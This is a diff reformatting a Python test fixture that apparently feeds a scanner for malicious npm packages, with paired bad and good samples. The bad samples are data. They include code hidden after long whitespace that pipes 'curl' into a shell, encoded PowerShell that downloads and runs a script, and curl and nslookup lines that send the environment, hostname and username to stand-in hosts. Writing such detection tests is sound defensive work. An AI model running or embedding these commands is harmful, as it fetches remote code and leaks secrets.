@@ -154,7 +154,9 @@ MAIN = {
         "module.exports = () => ({ ...process.env, PADDING: '1' });\n",
     ),
     "hides code far to the right": (
-        "module.exports = function pad(t, w) { return t.padEnd(w); };" + " " * 220 + "require('child_process').exec('curl -s http://192.0.2.3/x | sh');\n",
+        "module.exports = function pad(t, w) { return t.padEnd(w); };"
+        + " " * 220
+        + "require('child_process').exec('curl -s http://192.0.2.3/x | sh');\n",
         "module.exports = function pad(t, w) { return t.padEnd(w); };" + " " * 220 + "// the end\n",
     ),
 }
@@ -166,12 +168,16 @@ COMMANDS = {
         "node -e \"console.log('thank you for installing')\"",
     ),
     "runs encoded PowerShell": (
-        "powershell -w hidden -enc " + base64.b64encode("iwr http://192.0.2.1/a.ps1 | iex".encode("utf-16-le")).decode(),
+        "powershell -w hidden -enc "
+        + base64.b64encode("iwr http://192.0.2.1/a.ps1 | iex".encode("utf-16-le")).decode(),
         "node scripts/postinstall.js",
     ),
-    "sends who this is": ("curl -d \"$(hostname)-$(whoami)\" https://beacon.example.test", "echo done"),
+    "sends who this is": ('curl -d "$(hostname)-$(whoami)" https://beacon.example.test', "echo done"),
     "looks up data as a host name": ("nslookup $(whoami).d.example.test", "true"),
-    "sends the environment": ("env | curl -X POST --data-binary @- https://drop.example.test", "npm run build --if-present"),
+    "sends the environment": (
+        "env | curl -X POST --data-binary @- https://drop.example.test",
+        "npm run build --if-present",
+    ),
 }
 
 
@@ -199,7 +205,13 @@ def _more() -> list[Case]:
 CASES = [
     *(Case(name, "npm", "postinstall", npm_hook(bad), npm_hook(good)) for name, (bad, good) in HOOKS.items()),
     *(
-        Case(name, "npm", "preinstall", npm_hook(HOOKS[name][0], hook="preinstall"), npm_hook(HOOKS[name][1], hook="preinstall"))
+        Case(
+            name,
+            "npm",
+            "preinstall",
+            npm_hook(HOOKS[name][0], hook="preinstall"),
+            npm_hook(HOOKS[name][1], hook="preinstall"),
+        )
         for name in ("downloads a runtime and runs a bundle", "sends credential files")
     ),
     *(Case(name, "npm", "import", npm_main(bad), npm_main(good)) for name, (bad, good) in MAIN.items()),
